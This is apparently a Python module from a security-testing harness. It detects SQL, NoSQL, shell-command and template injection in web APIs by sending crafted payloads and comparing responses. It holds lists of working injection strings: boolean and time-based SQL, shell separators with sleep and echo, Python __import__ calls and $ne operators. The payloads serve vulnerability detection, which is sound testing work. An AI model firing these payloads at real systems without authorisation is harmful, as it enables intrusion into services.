"""Injection with proof by effect: what was sent is not shown back, it was carried out.

SQL: a condition that is true and one that is false are answered differently, twice, with other words each time, and a
condition that is none like neither. Templates and commands: a product of two numbers that was never sent. Time: it
takes as long as it was told, twice, and no longer where it is told nothing.
"""

from __future__ import annotations

import random
import re
import secrets
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, replace
from functools import partial
from typing import TypeGuard

from harness.probes.api.inputs import MARK
from harness.probes.api.request import Hole, succeeded
from harness.probes.api.sites import Shape, TextPlace, answer_of
from harness.probes.api.world import World
from harness.probes.exchange import Exchange

SLEEP_S = 1.5
_AND = (
    "{v}' AND '{a}'='{b}",
    "{v}' AND '{a}'='{b}' -- ",
    "{v}') AND ('{a}'='{b}",
    "{v}%' AND '{a}'='{b}' AND '%'='",
    "{v}%') AND ('{a}'='{b}' AND '%'='",
    '{v}" AND "{a}"="{b}',
    "{v} AND '{a}'='{b}'",
    "{v}) AND ('{a}'='{b}'",
)
_OR = (
    "{v}' OR '{a}'='{b}",
    "{v}' OR '{a}'='{b}' -- ",
    "{v}') OR ('{a}'='{b}",
    "{v}%' OR '{a}'='{b}' -- ",
    '{v}" OR "{a}"="{b}',
)
_ORDERED = (
    "CASE WHEN '{a}'='{b}' THEN {v} ELSE NULL END",
    "CASE WHEN '{a}'='{b}' THEN {v} ELSE -{v} END",
    "(SELECT CASE WHEN '{a}'='{b}' THEN {v} ELSE 1/(1-1) END)",
)
_SQL_ERROR = re.compile(
    r"SQL syntax|sqlite3?\.\w*Error|SQLITE_ERROR|near \"[^\"]{0,80}\": syntax error|unrecognized token|"
    r"unterminated quoted string|syntax error at or near|ORA-\d{5}|SQLSTATE|psycopg2?\.|PG::SyntaxError|"
    r"Unclosed quotation mark|mysql_fetch|MySqlException|SequelizeDatabaseError|You have an error in your SQL",
    re.IGNORECASE,
)
_SLOW_SQL = (
    "@V' AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT @N) SELECT COUNT(*) FROM c)>0 -- ",
    "@V AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT @N) SELECT COUNT(*) FROM c)>0",
    "@V' OR 1=(SELECT 1 FROM pg_sleep(@S)) -- ",
    "@V OR 1=(SELECT 1 FROM pg_sleep(@S))",
    "@V' OR SLEEP(@S) -- ",
)
"""What takes time in a query: @V is the value, @S how many seconds, @N how many rows."""
_ROWS_A_SECOND = 6_000_000
"""As many rows as SQLite counts in a second or more."""
_SLOW_COMMANDS = (
    "@V;sleep @S;#",
    "@V$(sleep @S)",
    "@V|sleep @S;#",
    "@V';sleep @S;'",
    '@V";sleep @S;"',
    "__import__('time').sleep(@S)",
)
_ECHOES = (
    "@V;echo hx$((@A*@B))xh;#",
    "@V$(echo hx$((@A*@B))xh)",
    "@V|echo hx$((@A*@B))xh;#",
    "@V\necho hx$((@A*@B))xh\n",
    "@V';echo hx$((@A*@B))xh;'",
    '@V";echo hx$((@A*@B))xh;"',
    "'hx'+str(@A*@B)+'xh'",
    "'hx'+(@A*@B)+'xh'",
)
"""What prints a product of @A and @B that is not in it."""
_TEMPLATES = ("hx{{@A*@B}}xh", "hx${@A*@B}xh", "hx<%= @A*@B %>xh", "hx#{@A*@B}xh", "hx{@A*@B}xh")


@dataclass(frozen=True, slots=True)
class _Condition:
    """A template of SQL with a value at a place of a request: it is true where both of its words are equal."""

    world: World
    site: TextPlace
    template: str
    value: str

    def text(self, one: str, other: str) -> str:
        return self.template.format(v=self.value, a=one, b=other)

    def answer(self, one: str, other: str) -> Shape | None:
        return answer_of(self.world, self.site, self.text(one, other))

    def takes_nonsense(self, word: str, true: Shape) -> bool:
        """Is something that is no condition answered as a true one?"""
        broken = (self.template.replace(each, f" {MARK.upper()} ") for each in (" AND ", " OR "))
        others = (replace(self, template=each) for each in broken if each != self.template)
        return any(each.answer(word, word) == true for each in others)

    def proof(self, one: str, other: str) -> Exchange:
        return self.world.client.send(self.site.account, self.site.put(self.text(one, other)))


def _words() -> list[str]:
    return random.SystemRandom().sample("bcdfghjkmnpqrtvw", 3)


def sql_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text becomes a part of a query."""
    for site in places:
        hole = (
            _by_condition(world, site)
            or _by_order(world, site)
            or _by_quotes(world, site)
            or _by_operator(world, site)
            or _by_time(world, site, _SLOW_SQL, "SQL")
        )
        if hole is not None:
            yield hole


def _by_condition(world: World, site: TextPlace) -> Hole | None:
    base = answer_of(world, site, site.value)
    if base is None or base != answer_of(world, site, site.value):
        return None
    return _by_and(world, site, base) or _by_or(world, site)


def _by_and(world: World, site: TextPlace, base: Shape) -> Hole | None:
    """A condition beside the value that works: a true one changes nothing."""
    if not 200 <= base[0] < 300 or site.is_login:
        return None
    found = (_told_apart(_Condition(world, site, each, site.text), true_is=base) for each in _AND)
    return next(filter(None, found), None)


def _by_or(world: World, site: TextPlace) -> Hole | None:
    """A condition beside a value that finds nothing: a false one changes nothing."""
    if site.operation.method != "GET" and not site.is_login:
        return None
    unknown = f"{MARK}{secrets.token_hex(4)}" if isinstance(site.value, str) else "987654321"
    nothing = answer_of(world, site, unknown)
    if nothing is None or nothing[0] >= 500:
        return None
    ors = _OR if isinstance(site.value, str) else (*_OR, "{v} OR '{a}'='{b}'")
    found = (_told_apart(_Condition(world, site, each, unknown), false_is=nothing) for each in ors)
    return next(filter(None, found), None)


def _told_apart(condition: _Condition, true_is: Shape | None = None, false_is: Shape | None = None) -> Hole | None:
    """Does the service answer a true condition otherwise than a false one: both times, and only conditions?"""
    one, other, third = _words()
    true = condition.answer(one, one)
    if not _is_due(true, true_is, below=400):
        return None
    false = condition.answer(one, other)
    if not _is_due(false, false_is, below=500) or false == true:
        return None
    again = condition.answer(third, third), condition.answer(third, one)
    if again != (true, false) or condition.takes_nonsense(one, true):
        return None
    site, sent = condition.site, condition.text(one, one)
    says = (
        f"puts {site.place.told} into a query (SQL): {sent!r} is answered {true[0]} as a true condition,"
        f" {condition.text(one, other)!r} as a false one"
    )
    return site.hole(says, condition.proof(one, one))


def _is_due(answer: Shape | None, due: Shape | None, *, below: int = 1000) -> TypeGuard[Shape]:
    """Did an answer come, with a status below, and the same as the one that is due, where one is?"""
    return answer is not None and answer[0] < below and (due is None or _items(answer) == _items(due))


def _items(answer: Shape) -> Shape:
    return answer[0], answer[1].replace("§", "")


def _by_order(world: World, site: TextPlace) -> Hole | None:
    """A name of a column that is part of the query: an order by a condition."""
    if site.operation.method != "GET" or not re.search(r"sort|order|by|col|field", site.place.name, re.IGNORECASE):
        return None
    for column in dict.fromkeys((site.text, "id", "name", "title", "price")):
        if not re.fullmatch(r"\w+", column) or not _is_due(answer_of(world, site, column), None, below=300):
            continue
        found = (_told_apart_order(_Condition(world, site, each, column)) for each in _ORDERED)
        if (hole := next(filter(None, found), None)) is not None:
            return hole
    return None


def _told_apart_order(condition: _Condition) -> Hole | None:
    one, other, third = _words()
    true, false = condition.answer(one, one), condition.answer(one, other)
    if true == false or not _is_due(true, None, below=300) or not _is_due(false, None, below=300):
        return None
    if condition.answer(third, third) != true or condition.answer(third, one) != false:
        return None
    site, sent = condition.site, condition.text(one, other)
    says = f"puts {site.place.told} into a query (SQL): the order of the answer follows the condition in {sent!r}"
    return site.hole(says, condition.proof(one, other))


def _by_quotes(world: World, site: TextPlace) -> Hole | None:
    """One quote breaks what two do not."""
    for mark in ("'", '"'):
        seen = [world.client.tried(site.account, site.put(f"{site.text}{mark * count}")) for count in (1, 2, 3, 4)]
        answers = [each for each in seen if each is not None]
        how = _broken_by_odd(answers) if len(answers) == len(seen) else ""
        if how:
            return site.hole(f"puts {site.place.told} into a query{how}", answers[0])
    return None


def _broken_by_odd(answers: Sequence[Exchange]) -> str:
    """How answers to one, two, three and four quotes tell that odd numbers break a query; "" where they do not."""
    odd, even = answers[::2], answers[1::2]
    errors = [_SQL_ERROR.search(each.text) for each in odd]
    if any(_SQL_ERROR.search(each.text) for each in even):
        return ""
    if errors[0] is not None and all(errors):
        return f" (SQL): a quote in it is answered with {errors[0][0]!r}"
    if min(each.status for each in odd) >= 500 > max(each.status for each in even):
        return f": an odd number of quotes in it is answered with {odd[0].status}, an even one with {even[0].status}"
    return ""


def _by_operator(world: World, site: TextPlace) -> Hole | None:
    """An object where a text is due, which the database takes for a condition (NoSQL)."""
    if not isinstance(site.value, str) or site.place.where not in ("body", "query"):
        return None
    word = f"{MARK}{secrets.token_hex(4)}"
    of = partial(_operated, world, site, word)
    nothing = answer_of(world, site, word)
    unlike, like = of("$ne"), of("$eq")
    if nothing is None or not _is_due(unlike, None, below=300) or not _is_due(like, nothing):
        return None
    if unlike == like or of(f"${MARK}") == unlike or of("$ne") != unlike:
        return None
    sent = {"$ne": word}
    proof = world.client.send(site.account, site.put(sent))
    return site.hole(
        f"takes an operator of the database for {site.place.told}: {sent} matches what {word!r} does not", proof
    )


def _operated(world: World, site: TextPlace, word: str, operator: str) -> Shape | None:
    """What an operator and its word are answered with."""
    if site.place.where == "body":
        return answer_of(world, site, {operator: word})
    name = str(site.place.way[0])
    query = {key: each for key, each in site.draft.query.items() if key != name}
    draft = replace(site.draft, query={**query, f"{name}[{operator}]": word}, cookies={}, body=None, media_type="")
    seen = world.client.tried(site.account, draft)
    return None if seen is None else (seen.status, re.sub(r"\w{24,}|" + word, "§", seen.text))


def _by_time(world: World, site: TextPlace, templates: Iterable[str], what: str) -> Hole | None:
    """Does an answer take as long as the value says, twice, and none where the value says nothing?"""
    base = world.client.tried(site.account, site.draft)
    if base is None or base.elapsed_s > SLEEP_S / 3:
        return None

    def seconds(template: str, wait: float) -> float:
        seen = world.client.tried(site.account, site.put(_waiting(template, site.text, wait)))
        return seen.elapsed_s if seen is not None else 0.0

    for template in templates:
        first = seconds(template, SLEEP_S)
        if first < SLEEP_S * 0.8:
            continue
        still, longer = seconds(template, 0), seconds(template, SLEEP_S * 2)
        if still < SLEEP_S / 3 and longer > first * 1.5 and seconds(template, 0) < SLEEP_S / 3:
            text = _waiting(template, site.text, SLEEP_S)
            proof = world.client.send(site.account, site.put(text))
            says = (
                f"carries out {what} in {site.place.told}: {text!r} takes {first:.1f} s, with twice the wait"
                f" {longer:.1f} s, without one {still:.1f} s"
            )
            return site.hole(says, proof)
    return None


def _waiting(template: str, value: str, seconds: float) -> str:
    rows = str(int(seconds * _ROWS_A_SECOND) or 1)
    return template.replace("@V", value).replace("@S", f"{seconds:g}").replace("@N", rows)


def command_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text is run by a shell, or as a program."""
    for site in places:
        hole = _by_product(world, site, _ECHOES, "carries out a command in")
        hole = hole or _by_time(world, site, _SLOW_COMMANDS, "a command")
        if hole is not None:
            yield hole


def template_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text is rendered as a template: in the answer, or wherever it is read later."""
    stored: dict[str, tuple[TextPlace, str]] = {}
    for site in places:
        if not isinstance(site.value, str):
            continue
        hole = _by_product(world, site, _TEMPLATES, "renders as a template")
        if hole is not None:
            yield hole
        elif site.operation.method != "GET" and not site.is_login:
            for template in _TEMPLATES:
                text, result = _product(template, site.text)
                if succeeded(world.client.tried(site.account, site.put(text))):
                    stored[result] = site, text
    yield from _shown_later(world, stored)


def _shown_later(world: World, stored: dict[str, tuple[TextPlace, str]]) -> Iterator[Hole]:
    told: set[str] = set()
    for described in world.reads() if stored else ():
        for account in world.accounts:
            draft = world.drafts.get((described.name, account.name))
            seen = world.client.tried(account, draft) if draft is not None else None
            for result, (site, text) in stored.items():
                if seen is not None and result in seen.text and str(site.place) + site.operation.name not in told:
                    told.add(str(site.place) + site.operation.name)
                    says = (
                        f"renders {site.place.told} as a template: {text!r} was kept, and {described.name} shows"
                        f" {result!r}"
                    )
                    yield site.hole(says, seen)


def _product(template: str, value: str) -> tuple[str, str]:
    """A text to send, and what stands in the answer if it is carried out."""
    one, other = random.SystemRandom().randint(1100, 9900), random.SystemRandom().randint(1100, 9900)
    text = template.replace("@V", value).replace("@A", str(one)).replace("@B", str(other))
    return text, f"hx{one * other}xh"


def _by_product(world: World, site: TextPlace, templates_: Iterable[str], says: str) -> Hole | None:
    """Is a product in the answer that was never sent, twice?"""
    for template in templates_:
        proofs: list[Exchange] = []
        for _ in range(2):
            text, result = _product(template, site.text)
            seen = world.client.tried(site.account, site.put(text))
            if seen is None or result not in seen.text:
                break
            proofs.append(seen)
        else:
            return site.hole(f"{says} {site.place.told}: {text!r} is answered with {result!r}", proofs[-1])
    return None
